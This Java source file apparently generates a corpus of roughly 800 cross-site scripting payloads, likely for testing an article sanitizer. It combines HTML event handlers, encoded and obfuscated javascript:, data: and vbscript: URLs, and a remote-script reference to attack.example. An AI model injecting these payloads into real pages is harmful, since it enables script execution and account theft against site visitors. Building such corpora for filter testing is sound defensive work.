package broadsheet.article.hostile;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Objects;
import java.util.Set;
import java.util.regex.Pattern;

/**
 * Some 800 texts that run a script where a page takes them for markup: each event handler of HTML on several elements, and the
 * ways around filters that the cheat sheets of OWASP and PortSwigger collect: encodings, odd separators, other protocols, ways out
 * of each context, markup that parsers read differently, and expressions of template engines.
 */
public final class ScriptAttacks {

    private static final String EVENTS = """
            abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut
            beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur bounce cancel canplay
            canplaythrough change click close command contentvisibilityautostatechange contextlost contextmenu
            contextrestored copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop
            durationchange emptied end ended error finish focus focusin focusout formdata fullscreenchange
            gesturestart gotpointercapture hashchange input invalid keydown keypress keyup languagechange load
            loadeddata loadedmetadata loadend loadstart location lostpointercapture message messageerror mousedown
            mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide pageshow paste
            pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover
            pointerrawupdate pointerup popstate progress ratechange readystatechange rejectionhandled repeat reset
            resize scroll scrollend search securitypolicyviolation seeked seeking select selectionchange selectstart
            show slotchange stalled start storage submit suspend timeupdate toggle touchcancel touchend touchmove
            touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange
            waiting webkitanimationend webkittransitionend wheel zoom
            """;

    private static final List<String> WITH_HANDLERS = List.of(
            "<img src=x on%s=alert(1)>",
            "<svg/on%s=alert(1)>",
            "<details open on%s=\"alert(1)\"><summary>x</summary></details>",
            "<a href=/ tabindex=1 autofocus on%s='alert(1)'>x</a>",
            "\"><video on%s=alert(1)><source src=x></video>");

    private static final List<String> URL_ATTRIBUTES = List.of(
            "<a href=\"%s\">x</a>",
            "<img src=\"%s\">",
            "<iframe src=\"%s\"></iframe>",
            "<form action=\"%s\"><input type=submit></form>",
            "<svg><a xlink:href=\"%s\"><text y=9>x</text></a></svg>",
            "<object data=\"%s\"></object>",
            "<base href=\"%s//\">",
            "<blockquote cite=\"%s\">x</blockquote>",
            "[x](<%s>)");

    private static final List<String> URLS = List.of(
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            " javascript:alert(1)",
            "\u0001javascript:alert(1)",
            "java\tscript:alert(1)",
            "java\nscript:alert(1)",
            "java&#9;script:alert(1)",
            "java&Tab;script&colon;alert(1)",
            "&#106;avascript:alert(1)",
            "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)",
            "&#0000106&#0000097vascript:alert(1)",
            "javascript&#58;alert(1)",
            "javascript://%0aalert(1)",
            "javascript:%61lert(1)",
            "vbscript:msgbox(1)",
            "data:text/html,<script>alert(1)</script>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
            "blob:https://news.example/1",
            "feed:javascript:alert(1)",
            "view-source:javascript:alert(1)",
            "//attack.example/alert.js");

    private static final Pattern WORDS = Pattern.compile("\\s+");

    private ScriptAttacks() {}

    public static List<String> all() {
        Set<String> attacks = new LinkedHashSet<>();
        WORDS.splitAsStream(EVENTS.strip())
                .forEach(event -> WITH_HANDLERS.forEach(element -> attacks.add(element.formatted(event))));
        for (String url : URLS) {
            URL_ATTRIBUTES.forEach(element -> attacks.add(element.formatted(url)));
        }
        attacks.addAll(others());
        return new ArrayList<>(attacks);
    }

    /** One a line. */
    private static List<String> others() {
        try (InputStream file = Objects.requireNonNull(ScriptAttacks.class.getResourceAsStream("script-attacks.txt"))) {
            return new String(file.readAllBytes(), UTF_8).lines().toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
